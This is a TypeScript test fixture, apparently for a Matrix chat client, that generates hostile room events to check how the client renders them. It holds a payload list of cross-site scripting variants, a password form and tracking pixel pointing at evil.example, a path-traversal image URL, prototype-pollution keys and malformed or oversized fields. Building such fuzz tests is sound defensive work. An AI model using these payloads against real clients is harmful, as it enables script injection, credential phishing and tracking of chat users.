/** Events that a hostile person can get past a real server: wrong types in every field, deep nesting, prototype keys, every family of script injection. */
interface HostileEvent {
  readonly type: string;
  readonly content: Record<string, unknown>;
  readonly stateKey?: string;
}

const SCRIPTS = [
  "<script>window.pwned=1</script>",
  "<img src=x onerror=window.pwned=1>",
  "<svg onload=window.pwned=1><image href=x></svg>",
  "<svg><script>window.pwned=1</script></svg>",
  '<a href="javascript:window.pwned=1">click</a>',
  '<a href="java\nscript:window.pwned=1">click</a>',
  '<a href="data:text/html,<script>window.pwned=1</script>">click</a>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<math><mtext></p><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.pwned=1&gt;">',
  "<style>*{display:none}</style>",
  '<div style="position:fixed;inset:0;background:url(https://evil.example/x)">cover</div>',
  "<form action=https://evil.example><input name=password><button>send</button></form>",
  "<object data=x></object><embed src=x>",
  "<base href=https://evil.example/>",
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<img src="https://evil.example/pixel.png">',
  '<img src="mxc://../../etc/passwd">',
  '<a href="https://matrix.to/#/@x:y"><img src="mxc://a/b" onload=window.pwned=1></a>',
  "<details ontoggle=window.pwned=1 open>x</details>",
  "<mx-reply><script>window.pwned=1</script></mx-reply>",
  '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
  '<span data-mx-color="red;background:url(x)">x</span>',
  '<font color="#ff0000" onclick=window.pwned=1>x</font>',
  "<table><tr><td><table><tr><td>".repeat(60),
  "<blockquote>".repeat(400) + "deep",
  "<ul><li>".repeat(300),
  "<p>" + "&#x202e;".repeat(50) + "bidi",
  "<b>" + "Z\u0351\u036b\u0343".repeat(300) + "</b>",
  '<code class="language-__proto__">x</code>',
  "<ol start=99999999999999999999><li>x</ol>",
];

const ODD: readonly unknown[] = [
  null,
  0,
  -1,
  1.0e3,
  true,
  "",
  "x".repeat(5000),
  [],
  [[[]]],
  {},
  { toString: 1 },
  { __proto__x: 1 },
];

function deep(levels: number): Record<string, unknown> {
  let value: Record<string, unknown> = { end: true };
  for (let i = 0; i < levels; i += 1) value = { nest: value };
  return value;
}

export function* hostileContents(anchor: string, victim: string): Generator<HostileEvent> {
  const message = (content: Record<string, unknown>): HostileEvent => ({ type: "m.room.message", content });
  for (const html of SCRIPTS)
    yield message({ msgtype: "m.text", body: "markup", format: "org.matrix.custom.html", formatted_body: html });
  for (const odd of ODD) {
    yield message({ msgtype: odd, body: "odd msgtype" });
    yield message({ msgtype: "m.text", body: odd });
    yield message({ msgtype: "m.text", body: "x", format: "org.matrix.custom.html", formatted_body: odd });
    yield message({ msgtype: "m.text", body: "x", "m.relates_to": odd });
    yield message({ msgtype: "m.text", body: "x", "m.mentions": odd });
    yield message({ msgtype: "m.image", body: "x.png", url: odd, info: odd });
    yield message({
      msgtype: "m.image",
      body: "x.png",
      url: "mxc://localhost:8801/nothing",
      info: { w: odd, h: odd, size: odd, mimetype: odd, thumbnail_url: odd, "xyz.amorgan.blurhash": odd },
    });
    yield message({ msgtype: "m.file", body: "x", filename: odd, url: odd });
    yield message({
      msgtype: "m.text",
      body: "x",
      "m.new_content": odd,
      "m.relates_to": { rel_type: "m.replace", event_id: anchor },
    });
    yield { type: "m.reaction", content: { "m.relates_to": { rel_type: "m.annotation", event_id: anchor, key: odd } } };
    yield { type: "m.poll.start", content: { "m.poll": odd } };
    yield { type: "m.sticker", content: { body: odd, url: odd, info: odd } };
    yield { type: "m.room.topic", stateKey: "", content: { topic: odd } };
    yield { type: "m.room.name", stateKey: "", content: { name: odd } };
    yield { type: "m.room.avatar", stateKey: "", content: { url: odd, info: odd } };
    yield { type: "m.room.canonical_alias", stateKey: "", content: { alias: odd } };
    yield { type: "m.room.pinned_events", stateKey: "", content: { pinned: odd } };
  }
  for (const [w, h] of [
    [1e15, 1],
    [1, 1e15],
    [-5, -5],
    [0, 0],
    [1e-9, 1e9],
  ]) {
    yield message({
      msgtype: "m.image",
      body: "huge.png",
      url: "mxc://localhost:8801/nothing",
      info: { w: Math.trunc(w ?? 0), h: Math.trunc(h ?? 0), mimetype: "image/svg+xml" },
    });
  }
  yield message({ msgtype: "m.text", body: "nested", "org.example.deep": deep(80) });
  yield message({
    msgtype: "m.text",
    body: "self reply",
    "m.relates_to": { "m.in_reply_to": { event_id: "$nothing" } },
  });
  yield message({
    msgtype: "m.text",
    body: "to anchor",
    "m.relates_to": { rel_type: "m.thread", event_id: anchor, is_falling_back: "yes" },
  });
  yield message({
    msgtype: "m.text",
    body: "constructor",
    constructor: "x",
    hasOwnProperty: "y",
    __proto__: "z",
  });
  yield message({ msgtype: "m.emote", body: "\u202e\u2066\u2067".repeat(200) });
  yield message({ msgtype: "m.text", body: "A".repeat(60_000) });
  yield message({ msgtype: "m.text", body: `https://${"a.".repeat(500)}com/${"(".repeat(500)}` });
  yield message({ msgtype: "m.location", body: "here", geo_uri: "javascript:window.pwned=1" });
  for (let i = 0; i < 40; i += 1)
    yield {
      type: "m.reaction",
      content: { "m.relates_to": { rel_type: "m.annotation", event_id: anchor, key: `k${i}${"x".repeat(i * 20)}` } },
    };
  yield {
    type: "m.room.member",
    stateKey: victim,
    content: { membership: "join", displayname: "<img src=x onerror=window.pwned=1>" },
  };
  yield { type: "__proto__", content: { polluted: true } };
  yield { type: "constructor", content: {} };
}
